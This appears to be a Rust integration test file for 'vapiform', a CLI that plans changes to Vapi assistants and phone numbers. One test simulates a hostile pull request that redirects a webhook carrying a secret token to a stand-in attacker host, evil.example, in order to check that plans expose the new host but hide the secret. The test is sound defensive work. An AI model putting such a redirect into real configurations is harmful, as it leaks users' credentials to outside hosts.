//! `plan` and `show` through the binary, against the sandbox and an in-process simulator.

use serde_json::Value;
use std::fmt::Write as _;
use vapiform::sim::{self, Account, Options};

use crate::support::{KEY, Workspace, serve, telnyx_number};

#[test]
fn quickstart_plan_tells_the_story() {
    let workspace = Workspace::quickstart();
    let before = workspace.read("account.json");
    let run = workspace
        .sandbox()
        .args(["plan", "--detailed-exitcode"])
        .run()
        .code(2);
    insta::assert_snapshot!("quickstart_text", run.stdout);
    assert_eq!(
        workspace.read("account.json"),
        before,
        "plan writes nothing"
    );
}

#[test]
fn quickstart_plan_as_markdown_and_json() {
    let workspace = Workspace::quickstart();
    let run = workspace
        .sandbox()
        .args(["plan", "--format", "markdown"])
        .run()
        .code(0);
    insta::assert_snapshot!("quickstart_markdown", run.stdout);
    let run = workspace
        .sandbox()
        .args(["plan", "--format", "json"])
        .run()
        .code(0);
    let plan: Value = serde_json::from_str(&run.stdout).expect("JSON plan");
    assert_eq!(plan["format_version"], 1);
    insta::assert_json_snapshot!("quickstart_json", plan);
}

#[test]
fn show_renders_a_saved_plan_exactly_as_plan_printed_it() {
    let workspace = Workspace::quickstart();
    for format in ["text", "markdown", "json"] {
        let printed = workspace
            .sandbox()
            .args(["plan", "--out", "plan.json", "--format", format])
            .run()
            .code(0);
        let shown = workspace
            .vapiform()
            .args(["show", "plan.json", "--format", format])
            .run()
            .code(0);
        assert_eq!(printed.stdout, shown.stdout, "format {format}");
    }
    let saved: Value = serde_json::from_str(&workspace.read("plan.json")).unwrap();
    assert_eq!(saved["summary"]["reassign"], 2);
}

#[test]
fn plans_are_deterministic() {
    let workspace = Workspace::quickstart();
    let first = workspace
        .sandbox()
        .args(["plan", "--format", "json"])
        .run()
        .code(0);
    let second = workspace
        .sandbox()
        .args(["plan", "--format", "json"])
        .run()
        .code(0);
    assert_eq!(first.stdout, second.stdout);
}

#[test]
fn target_plans_a_subset_with_what_it_needs() {
    let workspace = Workspace::quickstart();
    // A number is named in any notation, as a file names it.
    for target in ["number/+14155550104", "number/+1 (415) 555-0104"] {
        let run = workspace
            .sandbox()
            .args(["plan", "--format", "json", "--target", target])
            .run()
            .code(0);
        let plan: Value = serde_json::from_str(&run.stdout).unwrap();
        let addresses: Vec<&str> = plan["changes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["address"].as_str().unwrap())
            .collect();
        // Carol's number needs Carol's new assistant; nothing else is planned.
        assert_eq!(addresses, ["assistant/carols-cafe", "number/+14155550104"]);
    }
}

#[test]
fn a_missing_env_variable_is_an_error_at_plan_time_naming_the_assistant() {
    let workspace = Workspace::quickstart();
    let file = workspace.read("vapiform.yaml").replace(
        "Take the caller's name",
        "Token ${env.HOOK_SECRET}. Take the caller's name",
    );
    workspace.write("vapiform.yaml", &file);
    workspace.vapiform().args(["validate"]).run().code(0);
    let run = workspace.sandbox().args(["plan"]).run().code(1);
    assert!(
        run.stderr.contains("HOOK_SECRET")
            && run.stderr.contains("assistant/acme-plumbing")
            && run.stderr.contains("businesses.acme-plumbing.assistant"),
        "{}",
        run.stderr
    );
}

#[test]
fn env_fields_show_their_template_and_secrets_show_no_value() {
    let secret = "s3cr3t-hook-value-91c2";
    let workspace = Workspace::quickstart();
    workspace.add_hook_token();
    let file = workspace.read("vapiform.yaml").replace(
        "url: \"https://hooks.example.com\"",
        "url: \"https://hooks.example.com/x?t=${env.HOOK_TOKEN}\"",
    );
    workspace.write("vapiform.yaml", &file);
    workspace
        .sandbox()
        .env("HOOK_TOKEN", secret)
        .args(["apply", "--yes"])
        .run()
        .code(0);
    // A pull request moves the webhook, with the secret in its query, to another host and
    // changes the header's secret.
    let file = file.replace(
        "https://hooks.example.com/x?t=${env.HOOK_TOKEN}",
        "https://evil.example/x?t=${env.HOOK_TOKEN}",
    );
    workspace.write("vapiform.yaml", &file);
    for format in ["text", "markdown", "json"] {
        let run = workspace
            .sandbox()
            .env("HOOK_TOKEN", secret)
            .args(["-vvv", "plan", "--out", "plan.json", "--format", format])
            .run()
            .code(0);
        let shown = &run.stdout;
        assert!(
            shown.contains("https://evil.example/x?t=${env.HOOK_TOKEN}"),
            "{format}: the reviewer sees the new host and the variable:\n{shown}"
        );
        assert!(shown.contains("(sensitive, changed)"), "{format}:\n{shown}");
        assert!(
            !shown.contains("hooks.example.com/x?t="),
            "{format}: the live side holds the secret and is not shown:\n{shown}"
        );
        assert!(!shown.contains(" #"), "{format}: no hash:\n{shown}");
        assert!(
            !shown.contains(secret) && !run.stderr.contains(secret),
            "{format} leaked the secret"
        );
        assert!(!workspace.read("plan.json").contains(secret));
    }
    let run = workspace
        .sandbox()
        .env("HOOK_TOKEN", secret)
        .args(["plan"])
        .run()
        .code(0);
    assert!(
        run.stdout.contains(
            "    - server.url: (sensitive, changed)\n    + server.url: \"https://evil.example/x?t=${env.HOOK_TOKEN}\"\n"
        ),
        "{}",
        run.stdout
    );
    // The other assistants are created: their header is shown with no change to express.
    let run = Workspace::quickstart();
    run.add_hook_token();
    let run = run
        .sandbox()
        .env("HOOK_TOKEN", "abc")
        .args(["plan"])
        .run()
        .code(0);
    assert!(
        run.stdout
            .contains("    + server.headers.x-token: (sensitive)\n"),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains("\"abc\""), "{}", run.stdout);
}

/// An account of `n` telnyx numbers, unrouted or all routed to one legacy assistant, and a
/// file that gives each its own business.
fn many_businesses(n: usize, routed: bool) -> (Account, String) {
    let legacy = serde_json::json!({"id": "1e6ac700-0000-4000-8000-000000000001", "orgId": "o",
        "name": "Legacy", "createdAt": "2025-01-01T00:00:00.000Z", "updatedAt": "2025-01-01T00:00:00.000Z"});
    let mut numbers = Vec::new();
    let mut file = String::from("version: 1\nbusinesses:\n");
    for i in 0..n {
        let number = format!("+1415600{i:04}");
        // Seven numbers share each creation millisecond, as a bulk import leaves them.
        let at = format!("2026-01-01T00:00:00.{:03}Z", i / 7);
        let mut object = telnyx_number(i, &number, &at);
        if routed {
            object.insert("assistantId".into(), legacy["id"].clone());
        }
        numbers.push(object);
        let _ = write!(
            file,
            "  b{i:04}:\n    name: Business {i}\n    numbers: [\"{number}\"]\n    assistant:\n      spec:\n        name: Business {i}\n        firstMessage: |\n          Hello from business {i}.\n          We are open 9 to 5.\n"
        );
    }
    (
        Account {
            phone_numbers: numbers,
            assistants: if routed {
                vec![legacy.as_object().unwrap().clone()]
            } else {
                Vec::new()
            },
            ..Account::default()
        },
        file,
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plan_reads_with_list_calls_only_and_never_writes() {
    let (account, file) = many_businesses(1200, false);
    let options = Options {
        account: Some(account),
        ..Options::default()
    };
    let (running, workspace) = serve(options, &file).await;
    let run = workspace
        .vapiform()
        .args(["--api-url", &running.url(), "plan", "--allow-mass-change"])
        .run_async()
        .await
        .code(0);
    assert!(
        run.stdout
            .starts_with("Plan: 1200 to create, 1200 to assign."),
        "{}",
        &run.stdout[..200.min(run.stdout.len())]
    );
    let stats = running.stats();
    let routes: Vec<&str> = stats.by_route.keys().map(String::as_str).collect();
    assert_eq!(
        routes,
        ["GET /assistant", "GET /phone-number"],
        "only list calls"
    );
    // 1,200 numbers take two pages of 1,000; no assistants take one page.
    assert_eq!(stats.by_route["GET /phone-number"], 2);
    assert_eq!(stats.by_route["GET /assistant"], 1);
    running.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_mass_change_rule_refuses_with_exit_5() {
    let (account, file) = many_businesses(11, true);
    let options = Options {
        account: Some(account),
        ..Options::default()
    };
    let (running, workspace) = serve(options, &file).await;
    let url = running.url();
    let run = workspace
        .vapiform()
        .args(["--api-url", &url, "plan"])
        .run_async()
        .await
        .code(5);
    assert!(
        run.stdout.contains(
            "mass-change rule: 11 changes to where today's calls go, more than the limit of 10"
        ),
        "{}",
        run.stdout
    );
    workspace
        .vapiform()
        .args(["--api-url", &url, "plan", "--allow-mass-change"])
        .run_async()
        .await
        .code(0);
    let run = workspace
        .vapiform()
        .args(["--api-url", &url, "apply", "--yes"])
        .run_async()
        .await
        .code(5);
    assert!(run.stderr.contains("nothing was written"), "{}", run.stderr);
    let routes: Vec<String> = running.stats().by_route.into_keys().collect();
    assert!(
        routes.iter().all(|r| r.starts_with("GET ")),
        "no writes: {routes:?}"
    );
    running.shutdown().await;
}

#[test]
fn markdown_fits_the_byte_limit_and_says_what_it_left_out() {
    let (account, file) = many_businesses(300, false);
    let workspace = Workspace::new();
    workspace.write("vapiform.yaml", &file);
    workspace.write("account.json", &serde_json::to_string(&account).unwrap());
    for max in [60_000usize, 8_000, 700] {
        let run = workspace
            .sandbox()
            .args([
                "plan",
                "--allow-mass-change",
                "--format",
                "markdown",
                "--max-bytes",
                &max.to_string(),
            ])
            .run()
            .code(0);
        assert!(run.stdout.len() <= max, "{} > {max}", run.stdout.len());
        assert!(
            run.stdout
                .starts_with("### vapiform: Plan: 300 to create, 300 to assign."),
            "{}",
            run.stdout
        );
        if max == 8_000 {
            // A sentence a reviewer reads, counting what is missing.
            assert!(
                run.stdout.ends_with(
                    "\n_565 changes are left out of this comment, and the details of 35 more, to fit 8,000 bytes. The full plan is in the JSON plan file (`vapiform plan --out`)._\n"
                ),
                "{}",
                run.stdout
            );
            // Routing rows are kept before the others.
            assert!(run.stdout.contains("| + | <code>number/"), "{}", run.stdout);
        }
    }
    // When every row fits and only details do not, the note says only that.
    let whole = workspace
        .sandbox()
        .args([
            "plan",
            "--allow-mass-change",
            "--format",
            "markdown",
            "--max-bytes",
            "10000000",
        ])
        .run()
        .code(0)
        .stdout;
    assert!(
        !whole.contains("left out"),
        "nothing is left out of a plan that fits"
    );
    let run = workspace
        .sandbox()
        .args([
            "plan",
            "--allow-mass-change",
            "--format",
            "markdown",
            "--max-bytes",
            &(whole.len() - 1).to_string(),
        ])
        .run()
        .code(0);
    assert!(
        run.stdout.ends_with(&format!(
            "\n_The details of 2 changes are left out to fit {} bytes. The full plan is in the JSON plan file (`vapiform plan --out`)._\n",
            thousands(whole.len() - 1)
        )),
        "{}",
        &run.stdout[run.stdout.len() - 300..]
    );
}

/// `n` with thousands separators, as the markdown note writes budgets.
fn thousands(n: usize) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (i, digit) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(digit);
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rejected_key_says_so_plainly() {
    let running = sim::start(Options {
        token: Some("the-right-key".into()),
        ..Options::default()
    })
    .await
    .unwrap();
    let workspace = Workspace::new();
    workspace.write("vapiform.yaml", "version: 1\n");
    let run = workspace
        .vapiform()
        .args(["--api-url", &running.url(), "plan"])
        .run_async()
        .await
        .code(1);
    assert!(
        run.stderr
            .contains("Vapi rejected the API key (401 Unauthorized)"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains(KEY));
    running.shutdown().await;
}

/// The `N` of "use --max-bytes N or more" in a budget error.
fn minimum(stderr: &str) -> usize {
    let (_, rest) = stderr
        .split_once("use --max-bytes ")
        .unwrap_or_else(|| panic!("no minimum named: {stderr}"));
    rest.split_whitespace()
        .next()
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no minimum named: {stderr}"))
}

#[test]
fn a_markdown_budget_below_the_summary_is_an_error_and_output_ends_with_a_whole_line() {
    let (account, file) = many_businesses(40, false);
    let workspace = Workspace::new();
    workspace.write("vapiform.yaml", &file);
    workspace.write("account.json", &serde_json::to_string(&account).unwrap());
    let plan = |max: usize| {
        workspace
            .sandbox()
            .args([
                "plan",
                "--allow-mass-change",
                "--format",
                "markdown",
                "--out",
                "plan.json",
            ])
            .args(["--max-bytes", &max.to_string()])
            .run()
    };
    // No plan: the failure document alone, in whole lines.
    let run = plan(0).code(1);
    assert!(
        run.stdout.starts_with("**vapiform plan exited 1**") && run.stdout.ends_with("```\n"),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr
            .contains("--max-bytes 0 is too small for this plan"),
        "{}",
        run.stderr
    );
    let least = minimum(&run.stderr);
    let full = plan(1_000_000).code(0).stdout.len();
    assert!(least < full, "{least} {full}");
    plan(least - 1).code(1);
    for max in [
        least,
        least + 1,
        least + 97,
        least + 1000,
        full / 2,
        full - 1,
        full,
    ] {
        let run = plan(max).code(0);
        let out = &run.stdout;
        assert!(out.len() <= max, "{} > {max}", out.len());
        assert!(
            out.starts_with("### vapiform: Plan: 40 to create, 40 to assign.\n"),
            "{out}"
        );
        let ending = if max < full {
            "(`vapiform plan --out`)._\n"
        } else {
            "</details>\n"
        };
        assert!(out.ends_with(ending), "{max}: ends mid-line:\n{out}");
        // `show` renders the saved plan within the same budget.
        let shown = workspace
            .vapiform()
            .args(["show", "plan.json", "--format", "markdown"])
            .args(["--max-bytes", &max.to_string()])
            .run()
            .code(0);
        assert_eq!(&shown.stdout, out);
    }

    // A plan with no changes is its summary line alone.
    let workspace = Workspace::new();
    workspace.write("vapiform.yaml", "version: 1\n");
    workspace.write("account.json", "{}");
    let run = workspace
        .sandbox()
        .args(["plan", "--format", "markdown", "--max-bytes", "10"])
        .run()
        .code(1);
    assert_eq!(minimum(&run.stderr), "### vapiform: No changes.\n".len());
}
